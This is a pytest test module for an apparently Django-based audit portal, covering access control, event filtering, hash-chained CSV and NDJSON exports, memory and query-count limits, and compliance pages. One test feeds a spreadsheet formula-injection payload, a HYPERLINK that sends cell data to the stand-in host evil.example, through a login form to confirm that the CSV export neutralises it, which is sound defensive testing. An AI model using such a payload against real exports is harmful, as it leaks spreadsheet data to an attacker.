from __future__ import annotations

import csv
import io
import itertools
import json
import tracemalloc
from datetime import timedelta

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from meshportal.audit.events import EventType
from meshportal.audit.models import AuditEvent
from meshportal.audit.services import audit_record, compute_hash
from provisioning.models import DriftFinding, ReconcileRun
from tests.audit.helpers import approved_by, at, bulk_events, make_grant
from tests.factories import ColumnFactory, DataProductFactory

pytestmark = pytest.mark.django_db

PAGES = [
    "audit:events",
    "audit:export-csv",
    "audit:export-json",
    "audit:entitlements",
    "audit:compliance",
    "audit:dashboard",
]


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize("persona", ["consumer", "producer", "steward", "outsider"])
def test_everyone_but_auditors_and_admins_gets_403(personas, client_for, name, persona):
    response = client_for(getattr(personas, persona)).get(reverse(name))
    assert response.status_code == 403


@pytest.mark.parametrize("name", PAGES)
def test_anonymous_users_are_sent_to_log_in(client_for, name):
    response = client_for(None).get(reverse(name))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize("persona", ["auditor", "admin"])
def test_auditors_and_admins_see_every_page(personas, client_for, name, persona):
    response = client_for(getattr(personas, persona)).get(reverse(name))
    assert response.status_code == 200


# --- Events --------------------------------------------------------------------------------------------


def _event(actor, event_type=EventType.PRODUCT_UPDATED, **kwargs):
    return audit_record(actor=actor, event_type=event_type, **kwargs)


def test_events_filter_by_product_slug_principal_account_and_type(personas, client_for):
    product = DataProductFactory(name="Sales Orders", slug="sales-orders")
    arn = "arn:aws:iam::333333333333:role/analyst"
    mine = _event(
        personas.admin,
        EventType.GRANT_APPLIED,
        product_id=product.pk,
        principal=arn,
        account_id="333333333333",
        object_repr="grant for sales orders",
    )
    _event(personas.admin, EventType.GRANT_APPLIED, product_id=product.pk + 1000, object_repr="another product")
    _event(personas.admin, EventType.LOGIN, object_repr="a login")
    client = client_for(personas.auditor)
    for params in (
        {"product_slug": "sales-orders"},
        {"product": product.pk},
        {"principal": arn},
        {"account": "333333333333"},
        {"product_slug": "sales-orders", "event_type": "grant.applied"},
    ):
        response = client.get(reverse("audit:events"), params)
        assert [e.pk for e in response.context["events"]] == [mine.pk], params
    assert list(client.get(reverse("audit:events"), {"product_slug": "nope"}).context["events"]) == []


def test_events_filter_by_time_range_uses_exact_bounds(personas, client_for):
    bulk_events(10, start=at("2026-03-01 00:00"), step=timedelta(hours=1))  # 01:00 … 10:00
    client = client_for(personas.auditor)
    response = client.get(reverse("audit:events"), {"since": "2026-03-01T03:00", "until": "2026-03-01T06:00"})
    assert [e.occurred_at.hour for e in response.context["events"]] == [5, 4, 3]
    assert client.get(reverse("audit:events"), {"since": "2027-01-01T00:00"}).context["events"] == []
    assert client.get(reverse("audit:events"), {"until": "2026-01-01T00:00"}).context["events"] == []


def test_events_page_by_keyset_and_htmx_partial(personas, client_for):
    bulk_events(120)
    client = client_for(personas.auditor)
    first = client.get(reverse("audit:events"), {"event_type": "access.request_created"})
    seqs = [e.seq for e in first.context["events"]]
    assert seqs == list(range(120, 70, -1))
    assert "before=" in first.context["next_query"] and "event_type=" in first.context["next_query"]
    second = client.get(f"{reverse('audit:events')}?{first.context['next_query']}", headers={"HX-Request": "true"})
    assert [e.seq for e in second.context["events"]] == list(range(70, 20, -1))
    assert b"<html" not in second.content and b"Older events" in second.content
    third = client.get(f"{reverse('audit:events')}?{second.context['next_query']}")
    assert [e.seq for e in third.context["events"]] == list(range(20, 0, -1)) and third.context["next_query"] == ""


def test_events_page_shows_filter_errors(personas, client_for):
    response = client_for(personas.auditor).get(reverse("audit:events"), {"since": "yesterday-ish"})
    assert response.status_code == 200 and response.context["events"] == []
    assert b"Enter a valid date/time" in response.content


# --- Export --------------------------------------------------------------------------------------------


def _body(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def test_csv_export_streams_the_filtered_log_in_chain_order(personas, client_for):
    bulk_events(30, event_type="access.request_created")
    bulk_events(20, event_type="grant.applied", principal="arn:aws:iam::333333333333:role/a")
    response = client_for(personas.auditor).get(reverse("audit:export-csv"), {"event_type": "grant.applied"})
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-events-')
    rows = list(csv.DictReader(io.StringIO(_body(response).decode())))
    assert [int(r["seq"]) for r in rows] == list(range(31, 51))
    assert rows[0]["principal"] == "arn:aws:iam::333333333333:role/a"
    # Values are exported exactly as stored: the hash can be recomputed from the export.
    stored = AuditEvent.objects.get(seq=31)
    assert json.loads(rows[0]["after"]) == stored.after and rows[0]["hash"] == stored.hash


def test_csv_export_neutralises_formulas_from_an_anonymous_login_attempt(personas, client, client_for):
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    client.post(reverse("identity:login"), {"username": formula, "password": "wrong"})
    bulk_events(1, product_id=-7, actor="@admin")
    response = client_for(personas.auditor).get(reverse("audit:export-csv"))
    rows = list(csv.DictReader(io.StringIO(_body(response).decode())))
    failed = next(r for r in rows if r["event_type"] == EventType.LOGIN_FAILED)
    assert failed["object_repr"] == "'" + formula
    numbers = {"seq", "actor_id", "product_id"}
    text = [value for row in rows for name, value in row.items() if name not in numbers]
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in text)
    bulk = next(r for r in rows if r["actor"] == "'@admin")
    assert bulk["product_id"] == "-7"  # a number column stays a number
    # NDJSON stays verbatim (the form to check against the chain).
    ndjson = _body(client_for(personas.auditor).get(reverse("audit:export-json"))).decode()
    assert json.loads(ndjson.splitlines()[0])["object_repr"] == formula


def test_json_export_is_ndjson_and_chains(personas, client_for):
    bulk_events(12)
    response = client_for(personas.admin).get(reverse("audit:export-json"))
    assert response.streaming and response["Content-Type"].startswith("application/x-ndjson")
    records = [json.loads(line) for line in _body(response).decode().splitlines()]
    # The log as it stands, ending with this export's own event (recorded before the download starts).
    assert [r["seq"] for r in records] == list(range(1, 14))
    assert records[-1]["event_type"] == "audit.exported" and records[-1]["actor"] == personas.admin.username
    for previous, record in itertools.pairwise(records):
        assert record["prev_hash"] == previous["hash"]
    first = AuditEvent.objects.get(seq=1)
    assert records[0]["hash"] == compute_hash(first)


def test_export_rejects_invalid_filters(personas, client_for):
    response = client_for(personas.auditor).get(reverse("audit:export-csv"), {"until": "soon"})
    assert response.status_code == 400 and b"until" in response.content
    assert not AuditEvent.objects.filter(event_type="audit.exported").exists()


def test_every_export_is_itself_recorded_with_who_what_and_which_filters(personas, client_for):
    bulk_events(5)
    params = {"event_type": "grant.applied", "principal": "arn:aws:iam::333333333333:role/a"}
    response = client_for(personas.auditor).get(reverse("audit:export-csv"), params)
    assert response.status_code == 200
    event = AuditEvent.objects.get(event_type="audit.exported")
    assert event.actor_id == personas.auditor.pk and event.object_repr == "csv export"
    assert event.after == {"format": "csv", "filters": {k: [v] for k, v in params.items()}}
    assert event.seq == 6 and event.prev_hash == AuditEvent.objects.get(seq=5).hash  # on the chain
    for persona in (personas.consumer, personas.producer, personas.steward):
        assert client_for(persona).get(reverse("audit:export-json")).status_code == 403
    assert AuditEvent.objects.filter(event_type="audit.exported").count() == 1


def _export_peak(client) -> tuple[int, int, int]:
    response = client.get(reverse("audit:export-csv"))
    tracemalloc.start()
    rows, size = 0, 0
    for chunk in response.streaming_content:
        rows += chunk.count(b"\n")
        size += len(chunk)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return rows - 1, size, peak


@pytest.mark.slow
def test_export_memory_stays_flat_for_50k_rows(personas, client_for):
    client = client_for(personas.auditor)
    bulk_events(10_000)
    rows_small, _, peak_small = _export_peak(client)
    bulk_events(40_000)
    rows, size, peak = _export_peak(client)
    assert (rows_small, rows) == (10_001, 50_002)  # each export adds its own event first
    # One keyset chunk (2,000 rows) is held at a time: five times the rows, about the same peak.
    assert peak < peak_small * 1.25, f"peak {peak / 1e6:.1f} MB at 50k rows vs {peak_small / 1e6:.1f} MB at 10k"
    assert peak < 10 * 1024 * 1024 and peak < size / 2, f"peak {peak / 1e6:.1f} MB for {size / 1e6:.1f} MB"


# --- Entitlements, compliance, dashboard ------------------------------------------------------------------


def test_entitlements_page_answers_as_of_with_the_approval_trail(personas, client_for, domain):
    product = DataProductFactory(name="Sales Orders", slug="sales-orders", domain=domain)
    grant = make_grant(
        product=product,
        requester=personas.consumer,
        requested_at=at("2026-02-27 09:00"),
        granted_at=at("2026-02-28 09:00"),
        ended_at=at("2026-03-02 09:00"),
        approvals=approved_by(personas.producer, at("2026-02-27 10:00")),
    )
    client = client_for(personas.auditor)
    response = client.get(reverse("audit:entitlements"), {"as_of": "2026-03-01T00:00"})
    assert [g.pk for g, _ in response.context["rows"]] == [grant.pk]
    body = response.content.decode()
    assert "pat-producer" in body and "Quarterly revenue reporting" in body and grant.principal_arn in body
    assert client.get(reverse("audit:entitlements"), {"as_of": "2026-03-03T00:00"}).context["rows"] == []
    invalid = client.get(reverse("audit:entitlements"), {"as_of": "first of March"})
    assert "ISO 8601" in invalid.content.decode()


def test_compliance_page_lists_findings(personas, client_for, domain):
    now = timezone.now()
    product = DataProductFactory(name="Leaky", slug="leaky", domain=domain)
    ColumnFactory(product=product, name="email", classification="")
    make_grant(
        product=product,
        requester=personas.consumer,
        requested_at=now - timedelta(days=3),
        granted_at=now - timedelta(days=2),
    )
    run = ReconcileRun.objects.create(started_at=now)
    DriftFinding.objects.create(
        run=run,
        kind="unexpected",
        account_id="333333333333",
        principal="arn:aws:iam::333333333333:role/rogue",
        found_at=now,
    )
    body = client_for(personas.auditor).get(reverse("audit:compliance")).content.decode()
    assert "Leaky" in body and "Every column is classified" in body
    assert "Grants without an approval record (1)" in body and "role/rogue" in body


def test_dashboard_renders_accessible_svg_charts(personas, client_for, domain):
    now = timezone.now()
    product = DataProductFactory(name="Sales Orders", slug="sales-orders", domain=domain)
    make_grant(
        product=product,
        requester=personas.consumer,
        requested_at=now - timedelta(hours=5),
        granted_at=now - timedelta(hours=1),
        approvals=approved_by(personas.producer, now),
    )
    body = client_for(personas.admin).get(reverse("audit:dashboard")).content.decode()
    assert body.count('<svg class="chart-svg"') == 4 and body.count("No data yet") == 1  # nothing pending
    assert 'role="img"' in body and '<title id="lead-time-title">' in body and "<desc" in body
    assert "Data table" in body and "Sales Orders" in body


# --- Query counts -------------------------------------------------------------------------------------


def _grow(personas, domain, n: int) -> None:
    now = timezone.now()
    bulk_events(n * 10, product_id=1, principal="arn:aws:iam::333333333333:role/a")
    for i in range(n):
        product = DataProductFactory(domain=domain)
        ColumnFactory(product=product, classification="" if i % 2 else "internal")
        make_grant(
            product=product,
            requester=personas.consumer,
            requested_at=now - timedelta(days=100),
            granted_at=now - timedelta(days=99),
            expires_at=now - timedelta(days=1),
            approvals=approved_by(personas.producer, now - timedelta(days=100)) if i % 2 else None,
        )
        DriftFinding.objects.create(
            run=ReconcileRun.objects.create(started_at=now),
            kind="missing",
            account_id="333333333333",
            principal="arn:aws:iam::333333333333:role/a",
            found_at=now,
        )


def _queries(client, name: str, params: dict) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(reverse(name), params)
        if getattr(response, "streaming", False):
            b"".join(response.streaming_content)
    assert response.status_code == 200
    return len(ctx.captured_queries)


QUERY_CASES = [
    ("audit:events", {}),
    ("audit:events", {"product_slug": "x", "since": "2020-01-01T00:00", "until": "2030-01-01T00:00"}),
    ("audit:export-csv", {"principal": "arn:aws:iam::333333333333:role/a"}),
    ("audit:export-json", {}),
    ("audit:entitlements", {}),
    ("audit:entitlements", {"as_of": "2026-01-01T00:00", "domain": "sales"}),
    ("audit:compliance", {}),
    ("audit:dashboard", {}),
]


def test_every_page_makes_the_same_number_of_queries_at_two_sizes(personas, client_for, domain):
    client = client_for(personas.auditor)
    _grow(personas, domain, 3)
    small = {f"{name} {params}": _queries(client, name, params) for name, params in QUERY_CASES}
    _grow(personas, domain, 12)
    large = {f"{name} {params}": _queries(client, name, params) for name, params in QUERY_CASES}
    assert small == large
